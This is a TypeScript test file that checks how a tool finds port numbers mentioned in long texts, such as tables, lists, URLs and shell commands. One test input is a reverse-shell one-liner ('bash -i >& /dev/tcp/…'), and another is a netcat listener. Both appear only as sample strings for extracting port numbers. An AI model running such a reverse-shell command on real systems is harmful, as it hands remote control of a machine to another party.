import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mentionContext } from '../../../src/notes/mentions/context';
import { mentionsInSlices } from '../../../src/notes/mentions/find-mentions';
import { mayBeAboutPorts, Regions } from '../../../src/notes/mentions/scan/regions';
import { loadRegistry } from '../../../src/registry/load';
import { find } from './judge';

const PROSE = 'Nobody could say why, and so it stays. ';
const far = (letters: number) => `${PROSE.repeat(Math.ceil(letters / PROSE.length))}\n`;
const portsOf = (text: string) => find(text).map(({ first }) => first);

/** All regions of a text, one after the other. */
function regionsOf(text: string) {
	const regions = new Regions(text, mayBeAboutPorts(text));
	const found = [];
	for (let at = 0; at < text.length; at = found[found.length - 1]!.end) {
		found.push({ start: at, ...regions.from(at) });
	}
	return found;
}

describe('a long text', () => {
	it('is looked at closely around words about ports, before them and behind', () => {
		const text = `${far(5000)}The port was open.\n${far(5000)}`;
		const [before, near, behind, ...more] = regionsOf(text);
		expect(before).toEqual({ start: 0, isClose: false, end: text.indexOf('port') - 2000 });
		expect(near).toMatchObject({ isClose: true });
		expect(near!.end).toBe(text.indexOf('port') + 2000);
		expect(behind).toMatchObject({ isClose: false });
		expect(more).toEqual([]);
	});

	it('still has the ports of a table, or of a list, whose heading is far above', () => {
		const ports = Array.from({ length: 300 }, (_, at) => 20_001 + 2 * at);
		const rows = ports.map((port) => `| machine | ${port} |`).join('\n');
		const table = `${far(3000)}| Host | Port |\n| --- | --- |\n${rows}\n\n${far(3000)}`;
		expect(portsOf(table)).toEqual(ports);
		const some = ports.slice(0, 30);
		const items = some.map(
			(port) =>
				`- ${port}: the machine in the cellar, and what it is there for, as far as anybody knows`,
		);
		const list = `${far(3000)}Open ports:\n\n${items.join('\n')}\n\n${far(3000)}`;
		expect(portsOf(list)).toEqual(some);
	});

	it('has the numbers that say themselves what they are wherever they stand', () => {
		const text = `Port 443.\n${far(9000)}See http://nas.local:8096 and 10.0.0.2:53, chapter 22.\n${far(9000)}`;
		expect(portsOf(text)).toEqual([443, 8096, 53]);
	});

	it.each([
		['nmap -p 23 10.0.0.5', [23]],
		['docker run -p 80:80 nginx', [80, 80]],
		['python3 -m http.server 80', [80]],
		['bash -i >& /dev/tcp/10.0.0.5/44', [44]],
		['nc -lvnp 99', [99]],
		['ssh -p2222 ops@jump', [2222]],
		['EXPOSE 81', [81]],
	])('has a sure form however far it is from what says port: %s', (words, ports) => {
		expect(portsOf(`Port 443.\n${far(9000)}${words}\n${far(9000)}`)).toEqual([443, ...ports]);
	});

	it('is cut into regions without a gap, whatever it says', () => {
		const part = fc.oneof(
			fc.constantFrom('port ', '端口', 'listen', '| 80 |\n', '- 80\n', '\n'),
			fc.nat({ max: 3000 }).map((length) => 'x'.repeat(length)),
		);
		fc.assert(
			fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
				const text = parts.join('');
				for (const { start, end, isClose } of regionsOf(text)) {
					expect(end).toBeGreaterThan(start);
					const words = text.slice(start, Math.min(end, text.length));
					if (!isClose) expect(mayBeAboutPorts(words.padEnd(5000))).toBe(false);
				}
			}),
		);
	});

	it('is read in short slices, the more the longer its lines with numbers are', () => {
		const row = (index: number) =>
			`Item ${index}: 4217 pieces at 12.50, total 52712, port 6203\n`;
		const text = Array.from({ length: 500 }, (_, index) => row(index)).join('');
		let slices = 1;
		const reading = mentionsInSlices(text, mentionContext(loadRegistry()));
		while (!reading.next().done) slices++;
		expect(text.length / slices).toBeLessThan(1000);
	});
});
